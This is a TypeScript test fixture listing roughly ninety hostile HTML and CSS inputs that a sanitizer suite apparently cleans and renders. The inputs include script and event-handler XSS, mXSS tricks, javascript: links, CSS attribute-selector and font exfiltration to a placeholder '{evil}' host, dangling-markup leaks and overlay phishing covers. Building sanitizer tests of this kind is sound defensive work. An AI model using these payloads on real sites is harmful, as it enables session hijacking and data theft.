/** Hostile messages by what they try; the unit suite cleans them, the journey draws them in Chromium. `{evil}` is a host. */
export const torture: Record<string, string> = {
  'a script': '<script>top.bad=1;fetch("{evil}/script")</script>',
  'a script from elsewhere': '<script src="{evil}/script.js"></script>',
  'a script in mixed case and broken open': '<ScRiPt >top.bad=1</sCrIpT ><script/x>top.bad=1</script\t>',
  'a script split by another': '<scr<script></script>ipt>top.bad=1</scr</script>ipt>',
  'an event handler': '<img src=x onerror="top.bad=1"><body onload="top.bad=1"><p onclick=top.bad=1>x</p>',
  'a handler behind a slash': '<img/src=x/onerror=top.bad=1><svg/onload=top.bad=1>',
  'a handler in a quoted attribute': '<img alt="<x onerror=top.bad=1>" title=\'"onerror="top.bad=1\'>',
  'a handler in a details element':
    '<details open ontoggle=top.bad=1>x</details><marquee onstart=top.bad=1>x</marquee>',
  'focus and animation handlers':
    '<a autofocus tabindex=1 onfocus=top.bad=1>x</a><p onanimationstart=top.bad=1>x</p>',
  'a javascript link':
    '<a id=click href="javascript:top.bad=1">x</a><a href="JaVa&#x09;ScRiPt:top.bad=1">y</a>',
  'a javascript link with entities':
    '<a href="&#106;avascript&colon;top.bad=1">x</a><a href="\u0001javascript:top.bad=1">y</a>',
  'a vbscript and a data link':
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>top.bad=1</script>">y</a>',
  'a javascript picture': '<img src="javascript:top.bad=1"><img src="jav\tascript:top.bad=1">',
  'an svg with a script':
    '<svg xmlns="http://www.w3.org/2000/svg"><script>top.bad=1</script><image href="{evil}/svg"/></svg>',
  'an svg that animates a link':
    '<svg><a><animate attributeName=href values=javascript:top.bad=1 /><text>x</text></a></svg>',
  'an svg with foreign content':
    '<svg><foreignObject><iframe srcdoc="<script>top.bad=1</script>"></iframe></foreignObject></svg>',
  'an svg that uses another':
    '<svg><use href="data:image/svg+xml,<svg id=x><script>top.bad=1</script></svg>#x"/></svg>',
  'an svg as a picture': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5iYWQ9MSIvPg==">',
  'math as an mXSS carrier':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.bad=1&gt;">',
  'math with a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.bad=1>',
  'noscript as an mXSS carrier': '<noscript><p title="</noscript><img src=x onerror=top.bad=1>"></noscript>',
  'a style that ends early': '<style>a{color:red}</style x><img src=x onerror=top.bad=1></style>',
  'a style string that ends the element':
    '<style>p{font-family:"</sty\\6ce><img src=x onerror=top.bad=1>"}</style><p>x</p>',
  'a selector that ends the element':
    '<style>p[title="</style><script>top.bad=1</script>"]{color:red}</style>',
  'a textarea and a title as carriers':
    '<textarea><img title="</textarea><img src=x onerror=top.bad=1>"></textarea><title><a title="</title><script>top.bad=1</script>">',
  'xmp, plaintext, listing':
    '<xmp><p title="</xmp><script>top.bad=1</script>"></xmp><listing>&lt;img onerror=top.bad=1&gt;</listing>',
  'a comment that is none': '<!--><script>top.bad=1</script>--><!--!><img src=x onerror=top.bad=1>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>top.bad=1</script><![endif]-->',
  'CDATA and processing instructions':
    '<![CDATA[><script>top.bad=1</script>]]><?xml-stylesheet href="{evil}/pi"?>',
  'a template and a slot':
    '<template shadowrootmode="open"><script>top.bad=1</script><img src="{evil}/shadow"></template>',
  'an iframe': '<iframe src="{evil}/iframe"></iframe><iframe srcdoc="<script>top.bad=1</script>"></iframe>',
  'object, embed, applet':
    '<object data="{evil}/object"></object><embed src="{evil}/embed"><applet code="{evil}/applet">',
  'audio and video':
    '<video src="{evil}/video" poster="{evil}/poster" onerror=top.bad=1></video><audio src="{evil}/audio" autoplay>',
  'a link element and a base':
    '<base href="{evil}/"><link rel=stylesheet href="{evil}/css"><link rel=prefetch href="{evil}/pre"><link rel=dns-prefetch href="//{host}"><a href="/here">x</a>',
  'a meta refresh':
    '<meta http-equiv=refresh content="0;url={evil}/refresh"><meta http-equiv="Set-Cookie" content="a=b">',
  'a meta policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>',
  'a form':
    '<form id=f action="{evil}/form" method=post><input name=password autofocus><button>Sign in</button></form>',
  'a button with a target':
    '<button formaction="{evil}/button" form=f>x</button><input type=image src="{evil}/image">',
  'a link to the top':
    '<a href="{evil}/top" target=_top>x</a><a href="//{host}/relative">y</a><a href="\\\\{host}\\unc">z</a>',
  'a ping and a download':
    '<a href="https://example.com" ping="{evil}/ping" download="x.exe" attributionsrc="{evil}/a">x</a>',
  'pictures elsewhere':
    '<img src="{evil}/img"><img srcset="{evil}/srcset 2x"><picture><source srcset="{evil}/source"><img src=x></picture>',
  'a background attribute':
    '<table background="{evil}/table"><tr><td background="{evil}/td">x</td></tr></table><body background="{evil}/body">',
  'a style attribute that loads':
    '<p style="background:url({evil}/a);list-style-image:url(\'{evil}/b\');cursor:url({evil}/c),auto">x</p>',
  'a style attribute in disguise':
    '<p style="background:u\\72l({evil}/a)">x</p><p style="background:/**/url(//{host}/b)">y</p><p style="back\\67round-image:url({evil}/c)">z</p>',
  'image-set, cross-fade and paint':
    '<p style="background:image-set(\'{evil}/a\' 1x)">x</p><p style="background:-webkit-image-set(url({evil}/b) 1x)">y</p>',
  'an import and a font':
    '<style>@import "{evil}/import";@import url({evil}/i2);@font-face{font-family:x;src:url({evil}/font)}*{font-family:x}</style>',
  'a reading of attributes':
    '<style>input[value^=a]{background:url({evil}/a)}a[href*=token]{list-style:url({evil}/b)}</style><a href="https://x.example/?token=1">x</a>',
  'custom properties':
    '<p style="--x:url({evil}/var);background:var(--x)">x</p><style>:root{--y:url({evil}/y)}p{background:var(--y)}</style>',
  'an escape from a comment in a sheet': '<style>/*</style><img src=x onerror=top.bad=1>*/</style>',
  'an old expression and a binding':
    '<p style="width:expression(top.bad=1);behavior:url({evil}/htc);-moz-binding:url({evil}/xbl)">x</p>',
  'a cover over the page':
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
  'a frame that grows for ever':
    '<div style="height:100vh"></div><div style="min-height:calc(100vh + 50px)">x</div>',
  'an animation': '<style>@keyframes a{to{background:url({evil}/kf)}}p{animation:a 1s}</style><p>x</p>',
  'a namespace and a layer':
    '<style>@namespace url({evil}/ns);@layer x{p{background:url({evil}/layer)}}@supports (color:red){p{background:url({evil}/s)}}</style>',
  'a Content-ID that leaves its place':
    '<img src="cid:../../logout"><img src="cid:%2e%2e%2fsecret"><img src="cid:javascript:top.bad=1">',
  'a Content-ID with markup':
    '<img src="cid:&quot;onerror=&quot;top.bad=1"><img src=\'cid:x" onerror="top.bad=1\'>',
  'unicode that hides an ending':
    '<a href="https://bank.example\u202egpj.exe">bank\u202eexe.jpg</a>\u2028<script>top.bad=1</script>\u2029',
  'overlong and unusual letters':
    '<ſcript>top.bad=1</ſcript><ímg src=x onerror=top.bad=1><img ſrc=x onerror=top.bad=1>',
  'zero bytes': '<scr\0ipt>top.bad=1</scr\0ipt><img src=x one\0rror=top.bad=1>',
  'names that shadow the page':
    '<a id=location name=cookie href="https://x.example">x</a><img name=body><p id=mail>x</p>',
  'a folded quotation that is forged':
    '<kontor-quote onclick=top.bad=1><script>top.bad=1</script></kontor-quote></div></div></body><script>top.bad=1</script>',
  'an attribute that ends the tag':
    '<p title="--></style></title></textarea><script>top.bad=1</script>">x</p>',
  'math as an annotation':
    '<math><annotation-xml encoding="text/html"><img src={evil}/annotation onerror=top.bad=1></annotation-xml></math>',
  'a namespace confusion':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=top.bad=1 src>">',
  'a table that throws its content out':
    '<table><math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=top.bad=1 src=1>">',
  'a thousand elements in each other': `${'<div><b>'.repeat(1000)}<script>top.bad=1</script><img src=x onerror=top.bad=1>`,
  'a thousand open lists': `${'<ul><li>'.repeat(1000)}<img src="{evil}/deep">`,
  'a thousand formatting elements': `${'<a><font>'.repeat(1000)}<p onclick=top.bad=1>x`,
  'seven-bit letters for others':
    '+ADw-script+AD4-top.bad=1+ADw-/script+AD4- <meta http-equiv=content-type content="text/html;charset=utf-7">',
  'another charset named inside':
    '<meta charset=iso-2022-jp><p title="\u001b$B" class="\u001b(B"><img src=x onerror=top.bad=1>',
  'text that runs the other way':
    '<p>\u202e<a href="https://nordbank.example.evil.example/\u202emoc.knabdron">moc.knabdron\u202c</a>\u2066\u202b</p>',
  'an open attribute that gathers what follows': '<img src=\'{evil}/dangling?<p>secret text</p><a href="x">',
  'an open style that gathers what follows': '<style>p{background:url({evil}/style-dangling?',
  'hints to the browser':
    '<link rel=preload as=image href="{evil}/preload"><link rel=preconnect href="{evil}"><link rel=modulepreload href="{evil}/mod.js"><link rel=icon href="{evil}/icon">',
  'a manifest and a prerendering':
    '<link rel=manifest href="{evil}/manifest"><script type=speculationrules>{"prerender":[{"urls":["{evil}/prerender"]}]}</script>',
  'a frameset': '<frameset><frame src="{evil}/frame"></frameset>',
  'a portal and a fenced frame':
    '<portal src="{evil}/portal"></portal><fencedframe src="{evil}/fenced"></fencedframe>',
  'a popover, a dialog and a command':
    '<button popovertarget=p commandfor=p command=show-modal>x</button><dialog open id=p onbeforetoggle=top.bad=1>Sign in</dialog>',
  'a picture map':
    '<img usemap="#m" ismap src="{evil}/map"><map name=m><area href="javascript:top.bad=1"></map>',
  'a lazy picture and its sizes':
    '<img loading=lazy data-src="{evil}/lazy" lowsrc="{evil}/low" dynsrc="{evil}/dyn" longdesc="{evil}/long">',
  'a filter, a mask and a shape':
    '<p style="filter:url({evil}/f#x);mask:url({evil}/m);clip-path:url({evil}/c);shape-outside:url({evil}/s);border-image:url({evil}/b) 1">x</p>',
  'content and counters that load':
    '<style>p::before{content:url({evil}/content)}@counter-style x{symbols:url({evil}/symbols)}li{list-style:x}</style><p>x</p>',
  'a sheet with another charset': '<style>@charset "utf-7";+AEA-import +ACI-{evil}/charset+ACI-;</style>',
  'attribute selectors over the office':
    '<style>html[data-kept-back^="1"]{background:url({evil}/kept)}a[href^="https://x"]::after{content:url({evil}/sel)}</style><a href="https://x.example/">x</a>',
  'a font that tells letters apart':
    '<style>@font-face{font-family:t;src:url({evil}/a);unicode-range:U+61}p{font-family:t}</style><p>a secret</p>',
  'a cover by margins and size':
    '<div style="margin:-5000px;padding:5000px;width:99999px;height:99999px;background:red">x</div>',
  'a sticky header over all':
    '<div style="position:sticky;top:0;z-index:2147483647;transform:scale(50)">x</div>',
};

/** One that is only large: the office stays quick. */
export const hugeTable = (rows: number): string =>
  `<table>${'<tr><td style="color:red">1</td><td>2</td><td>3</td></tr>'.repeat(rows)}</table>`;

export const deepTable = (depth: number): string => `${'<table><tr><td>'.repeat(depth)}deep`;
